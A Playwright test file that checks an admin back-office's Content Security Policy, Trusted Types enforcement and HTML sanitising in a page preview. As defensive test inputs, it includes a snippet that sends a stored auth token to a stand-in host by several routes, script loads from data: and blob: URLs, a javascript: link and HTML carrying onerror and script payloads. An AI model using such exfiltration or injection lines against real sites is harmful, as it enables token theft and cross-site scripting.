import { expect, test, type Page } from '@playwright/test';
import { formPaths, listPaths, otherPaths, settled } from '../support/admin-screens.ts';
import { apiUrl, readToken } from '../support/site.ts';

/** The browser's own, which TypeScript does not declare. */
declare const trustedTypes: { createPolicy: (name: string, rules: object) => unknown };

const mark = 'A policy forbids:';

/** Collects what the policies of a page and its frames forbid, from the next load on. */
async function watchViolations(page: Page): Promise<string[]> {
  const found: string[] = [];
  page.on('console', (message) => {
    if (message.text().startsWith(mark)) found.push(message.text());
  });
  await page.addInitScript((start) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      console.warn(start, location.pathname, effectiveDirective, blockedURI, sample);
    });
  }, mark);
  return found;
}

test.describe('the policies of the back-office forbid nothing that it does', () => {
  test.beforeEach(async ({ page }) => {
    test.setTimeout(180_000);
    await readToken(page);
  });

  for (const [name, paths] of Object.entries({ lists: listPaths, forms: formPaths, 'other screens': otherPaths })) {
    test(`on ${name}`, async ({ page }) => {
      const violations = await watchViolations(page);
      for (const path of [...paths, 'releases']) {
        await page.goto(`/admin/${path}`);
        await settled(page);
      }
      expect(violations).toEqual([]);
    });
  }

  test('at the login, in the palette, and in the media library', async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto('/admin/reset-password?token=abc');
    await settled(page);
    await page.goto('/admin/slider/form');
    await settled(page);
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox', { name: 'Find anything' }).fill('service');
    await expect(page.getByRole('group', { name: 'Page', exact: true })).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Select Image' }).first().click();
    await expect(page.getByRole('dialog').getByRole('listitem').first()).toBeVisible();
    expect(violations).toEqual([]);
  });

  test('in the editor of rich text and its preview, with a table, a list and what is pasted', async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto('/admin/page/form/1');
    await settled(page);
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    const preview = page.frameLocator('iframe[title="Preview of the page"]');
    await expect(preview.getByRole('main')).toBeVisible();
    const editor = page.getByRole('textbox', { name: 'Content' });
    // Until the editor has loaded, the field of the same name shows the source.
    await expect(editor).toHaveAttribute('contenteditable', 'true');
    await editor.click();
    await page.keyboard.press('ControlOrMeta+A');
    await page.evaluate(() => {
      const clipboardData = new DataTransfer();
      clipboardData.setData(
        'text/html',
        '<h2>Rates</h2><table><tr><td>one</td></tr></table><ul><li>pasted</li></ul><p><img src="/media/none.webp" alt="a"></p>',
      );
      document.activeElement?.dispatchEvent(
        new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }),
      );
    });
    await expect(editor).toContainText('pasted');
    await expect(preview.getByText('pasted')).toBeVisible();
    await editor.press('ControlOrMeta+A');
    await editor.press('ControlOrMeta+C');
    await editor.press('ArrowRight');
    await editor.press('ControlOrMeta+V');
    await page.getByRole('button', { name: /source/i }).click();
    await page
      .getByRole('textbox', { name: 'Content' })
      .fill(
        '<p>From the <strong>source</strong></p><table><caption>Rates of <b>today</b></caption><tr><td>one</td></tr></table>',
      );
    await page.getByRole('button', { name: /source/i }).click();
    await editor.click();
    await page.keyboard.type('Typed');
    await expect(preview.getByText('Typed')).toBeVisible();
    await expect(preview.getByRole('table')).toContainText('Rates of today');
    expect(violations).toEqual([]);
  });
});

test.describe('the policies of the back-office forbid', () => {
  test.beforeEach(async ({ page }) => {
    await readToken(page);
    await page.goto('/admin/dashboard');
    await settled(page);
  });

  test('to write HTML into the page, and a second policy', async ({ page }) => {
    await expect(
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="/x" alt="">');
      }),
    ).rejects.toThrow(/TrustedHTML/);
    await expect(
      page.evaluate(() => {
        document.body.innerHTML = '<p>Sign in again</p>';
      }),
    ).rejects.toThrow(/TrustedHTML/);
    for (const name of ['default', 'mine'])
      await expect(
        page.evaluate((policy) => {
          trustedTypes.createPolicy(policy, {});
        }, name),
      ).rejects.toThrow(/createPolicy/);
  });

  for (const address of [
    'https://elsewhere.invalid/x.js',
    '/media/01arz3ndektsv4rrffq69g5fav.js',
    '/api/x',
    '/admin/preview',
    '/mf/../media/x.js',
    'data:text/javascript,1',
    'blob:x',
  ]) {
    test(`a script from ${address}`, async ({ page }) => {
      await expect(
        page.evaluate((src) => {
          document.createElement('script').src = src;
        }, address),
      ).rejects.toThrow(/TrustedScriptURL/);
    });
  }

  test('code in a text', async ({ page }) => {
    const violations = await watchViolations(page);
    await page.reload();
    // `eval` is no proof here: it may run in what a debugger evaluates.
    await expect(
      page.evaluate(() => {
        Reflect.apply(setTimeout, globalThis, ["document.documentElement.dataset.ran = 'yes'"]);
      }),
    ).rejects.toThrow(/TrustedScript/);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.setAttribute('href', "javascript:document.documentElement.dataset.ran = 'yes'");
      link.click();
    });
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
    await expect(page.locator('html')).not.toHaveAttribute('data-ran');
  });

  test('to send what the page knows to another host, in a picture, a call, a form or a frame', async ({ page }) => {
    const sent: string[] = [];
    await page.route('https://elsewhere.invalid/**', (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
    const violations = await watchViolations(page);
    await page.reload();
    await settled(page);
    await page.evaluate(async () => {
      const host = 'https://elsewhere.invalid';
      new Image().src = `${host}/?${String(localStorage.getItem('authToken'))}`;
      await fetch(host).catch(() => undefined);
      navigator.sendBeacon(host);
      const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
      Object.assign(form, { action: host, method: 'post' });
      frame.src = host;
      document.body.append(form, frame);
      form.submit();
    });
    for (const directive of ['img-src', 'connect-src', 'form-action', 'frame-src'])
      await expect.poll(() => violations.join('\n')).toContain(directive);
    expect(sent).toEqual([]);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
  });
});

test('the preview shows what the API would store, and no HTML that could run', async ({ page }) => {
  await readToken(page);
  await page.goto('/admin/page/form/1');
  await settled(page);
  await page.getByRole('button', { name: 'Preview', exact: true }).click();
  const preview = page.frameLocator('iframe[title="Preview of the page"]');
  await expect(preview.getByRole('main')).toBeVisible();
  await page.getByRole('button', { name: /source/i }).click();
  await page
    .getByRole('textbox', { name: 'Content' })
    .fill(
      '<p id="shown">Shown <a href="https://example.org" target="_blank">there</a></p><form action="/x"><button>Send</button></form><img src="x" alt="" onerror="1"><iframe srcdoc="x"></iframe><svg><script>1</script></svg><style>p{color:red}</style>',
    );
  const text = preview.locator('p', { hasText: 'Shown there' });
  await expect(text).toBeVisible();
  expect(await text.locator('..').innerHTML()).not.toMatch(/<form|<button|onerror|<iframe|<script|<svg|<style/);
  await expect(text.getByRole('link')).toHaveAttribute('target', '_blank');
});

test('a form says why it does not show a picture of another host', async ({ page }) => {
  await readToken(page);
  await page.goto('/admin/slider/form');
  await settled(page);
  await page
    .getByLabel(/address of the image/)
    .first()
    .fill('https://elsewhere.invalid/a.png');
  await expect(page.getByText(/^This image of elsewhere\.invalid cannot be shown here\./)).toBeVisible();
});

test('a picture of another host is allowed in the back-office once it is live', async ({ page }) => {
  const token = await readToken(page);
  const violations = await watchViolations(page);
  const host = 'https://pictures.invalid:8443';
  const headers = { authorization: `Bearer ${token}`, 'app-key': 'quoin-site' };
  const data = { title: 'Shown from elsewhere', thumb: `${host}/a.png`, status: 0 };
  const made: { data: { id: number } } = await (
    await page.request.post(`${apiUrl}/api/posts`, { headers, data })
  ).json();
  const open = async (): Promise<string> => {
    const response = await page.goto(`/admin/post/form/${made.data.id}`);
    await settled(page);
    await expect(page.getByText(/^This image of pictures\.invalid cannot be shown here\./)).toBeVisible();
    return response?.headers()['content-security-policy'] ?? '';
  };
  expect(await open()).not.toContain(host);
  await expect.poll(() => violations.join('\n')).toContain(`img-src ${host}/a.png`);
  const own = { headers, data: { status: 1 } };
  expect((await page.request.put(`${apiUrl}/api/posts/${made.data.id}`, own)).status()).toBe(200);
  violations.length = 0;
  // Nothing answers at the host, so the form still says that it cannot be shown, but no policy forbids it.
  expect(await open()).toMatch(new RegExp(`img-src 'self' data: blob: [^;]*${host}`));
  expect(violations).toEqual([]);
  await page.request.delete(`${apiUrl}/api/posts/${made.data.id}`, { headers });
});
